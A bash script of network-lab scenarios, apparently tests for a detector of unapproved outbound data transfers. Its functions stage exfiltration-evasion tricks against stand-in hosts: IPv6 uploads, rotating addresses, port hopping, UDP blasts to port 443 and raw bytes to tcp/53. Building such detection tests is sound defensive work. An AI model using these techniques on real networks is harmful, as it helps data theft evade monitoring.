# shellcheck shell=bash disable=SC1091,SC2016,SC2034,SC2154
# Ways around.
scene evade-v6 exfil 'unapproved NII-0008' curl,nginx 'An upload over IPv6 abroad.'
s_evade_v6() { send nii8 https://files.abroad.example/x "$(file 60)" -6; }
scene evade-new-machine exfil 'unapproved unknown:new-mac?' curl,nginx 'A machine that nobody knows uploads.'
s_evade_new_machine() { send rogue https://files.abroad.example/x "$(file 60)" -4; }
scene evade-addresses exfil 'unapproved many-addresses' curl,nginx 'One machine under six addresses, one after another.'
s_evade_addresses() {
    local a; for a in 21 22 23 24 25 26; do
        ip -n rogue addr add "192.0.2.$a/26" dev eth0; send rogue "http://$DROP/x$a" "$(file 10)" --interface "192.0.2.$a"; ip -n rogue addr del "192.0.2.$a/26" dev eth0; done
}
scene evade-ports exfil 'unapproved NII-0008:port-hopping' socat 'A file in pieces, each to another port of one host.'
s_evade_ports() {
    local p; for p in 2001 2117 2500 3333 4040 5151 6262 7373 8484 9595 10101 11111; do
        lab_bg "case-hop-$p" outside socat -u "TCP4-LISTEN:$p,bind=$STRANGER,reuseaddr" OPEN:/dev/null; lab_wait_port outside tcp "$p"; raw_to nii8 "$(file 20)" "$STRANGER:$p"; done
}
scene evade-listens exfil 'unapproved BAG-0003:listens' socat 'A scanner serves a file to whoever connects.'
s_evade_listens() {
    file 80 >/dev/null; lab_bg case-serve bag3 socat -u "OPEN:$LAB_DIR/tmp/blob-80" TCP4-LISTEN:6000,bind=192.0.2.70,reuseaddr; lab_wait_port bag3 tcp 6000
    lab_in outside socat -u "TCP4:192.0.2.70:6000,bind=$PULLER" OPEN:/dev/null
}
scene evade-udp exfil 'unapproved NII-0007' perl 'A UDP blast to port 443.'
s_evade_udp() { lab_sink outside udp "$DROP" 443; lab_in nii7 "$LAB_HERE/send.pl" udp4 "$DROP" 443 1200 80; }
scene evade-one-packet exfil 'unapproved BAG-0004' socat 'A single datagram.'
s_evade_one_packet() { lab_sink outside udp "$STRANGER" 9; printf 'CSQU3054383' | lab_in bag4 socat -u - "UDP4-SENDTO:$STRANGER:9"; }
scene evade-ssh-banner exfil 'unapproved NII-0008' socat 'Raw bytes to tcp/53.'
s_evade_ssh_banner() { lab_sink outside tcp "$STRANGER" 53; raw_to nii8 "$(file 30)" "$STRANGER:53"; }
